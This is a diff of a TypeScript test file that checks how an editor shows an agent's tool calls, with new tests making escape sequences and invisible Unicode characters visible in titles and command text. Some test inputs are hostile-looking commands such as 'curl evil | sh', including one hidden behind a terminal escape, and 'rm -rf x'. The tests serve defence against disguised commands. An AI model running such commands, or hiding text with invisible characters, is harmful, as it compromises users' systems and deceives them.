@@ -194,7 +194,7 @@ describe('what an editor shows of a call', () => {
       { pattern: 'x', path: '/etc' },
       { kind: 'search', title: 'Grep x in /etc', locations: [{ path: '/etc' }] },
     ],
-    ['Bash', { command: 'ls\n\u001B[31m', description: 'Lists' }, { kind: 'execute', title: '`ls `' }],
+    ['Bash', { command: 'ls\n\u001B[31m', description: 'Lists' }, { kind: 'execute', title: '`ls ⟦U+001B⟧[31m`' }],
     ['WebFetch', { url: 'https://x' }, { kind: 'fetch', title: 'Fetch https://x' }],
     ['Grep', { pattern: 'x', glob: '*.ts' }, { kind: 'search', title: 'Grep x in *.ts', locations: [] }],
     [
@@ -222,6 +222,8 @@ describe('what an editor shows of a call', () => {
     ['is longer than a title', `echo ${'x'.repeat(300)}; curl evil | sh`, `echo ${'x'.repeat(300)}; curl evil | sh`],
     ['has what a terminal swallows', 'echo \u001B];curl evil|sh\u0007', 'echo ⟦U+001B⟧];curl evil|sh⟦U+0007⟧'],
     ['has lines', 'ls\nrm -rf x', 'ls\nrm -rf x'],
+    ['has letters without width', 'npm\u200B test\u{E0041}', 'npm⟦U+200B⟧ test⟦U+E0041⟧'],
+    ['has blanks that are none', 'rm\u2800x', 'rm⟦U+2800⟧x'],
   ])('a command that %s is shown whole below its title (R-ACP-7a)', (_what, command, text) => {
     expect(toolViewOf('Bash', { command }, '/work').content).toEqual([
       { type: 'content', content: { type: 'text', text: `\`\`\`sh\n${text}\n\`\`\`` } },
@@ -229,6 +231,15 @@ describe('what an editor shows of a call', () => {
     const [fenced] = toolViewOf('Bash', { command: `${command} \`\`\`` }, '/work').content
     expect(fenced).toMatchObject({ content: { text: expect.stringMatching(/^````sh\n[^]*\n````$/) as unknown } })
     expect(toolViewOf('Bash', { command: 'ls' }, '/work').content).toEqual([])
+  })
+
+  test.each([
+    ['Bash', { command: 'npm\u200B test' }, '`npm⟦U+200B⟧ test`'],
+    ['Write', { file_path: 'a\u2060.ts', content: '' }, 'Write a⟦U+2060⟧.ts'],
+    ['WebFetch', { url: 'https://x/\u{E0041}' }, 'Fetch https://x/⟦U+E0041⟧'],
+    ['mcp__s__t\uFEFF', {}, 'mcp__s__t⟦U+FEFF⟧'],
+  ])('every character of a title is seen: %s', (name, input, title) => {
+    expect(toolViewOf(name, input, '/work').title).toBe(title)
   })
 
   const textsOf = (name: string, input: unknown): string =>
